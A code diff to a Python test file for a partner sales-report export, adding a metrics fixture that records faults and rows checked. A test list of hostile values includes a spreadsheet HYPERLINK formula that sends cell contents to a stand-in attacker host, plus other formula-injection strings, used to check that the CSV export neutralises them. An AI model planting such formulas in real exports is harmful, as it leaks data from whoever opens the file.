@@ -9,6 +9,7 @@ import polars as pl
 import pytest
 
 from reports import export_partner
+from tests.guarantees import Figures
 from tests.reports.conftest import ALPHA, BRAVO, Marts
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
@@ -40,7 +41,9 @@ def test_export_holds_only_that_partners_lines(tmp_path: Path, marts: Marts) -> 
     assert sorted(p.name for p in tmp_path.iterdir()) == ["P0001-sellout.csv", "P0001-sellout.parquet"]
 
 
-def test_csv_neutralizes_formulas_and_keeps_numbers_numeric(tmp_path: Path, marts: Marts) -> None:
+def test_csv_neutralizes_formulas_and_keeps_numbers_numeric(
+    tmp_path: Path, marts: Marts, figures: Figures
+) -> None:
     sellout = _hostile_sellout(marts)
 
     csv_path, parquet_path = export_partner(sellout.lazy(), ALPHA.partner_id, tmp_path)
@@ -65,6 +68,8 @@ def test_csv_neutralizes_formulas_and_keeps_numbers_numeric(tmp_path: Path, mart
     exported = pl.read_parquet(parquet_path)
     assert set(HOSTILE) <= set(exported["reseller_name"].to_list())
     assert exported.schema == sellout.schema
+    expected = sellout.filter(pl.col("partner_id") == ALPHA.partner_id).height
+    figures.add(faults=len(HOSTILE), rows_checked=expected, rows_lost=expected - len(records))
 
 
 def test_unknown_partner_is_an_error_naming_it(tmp_path: Path, marts: Marts) -> None:
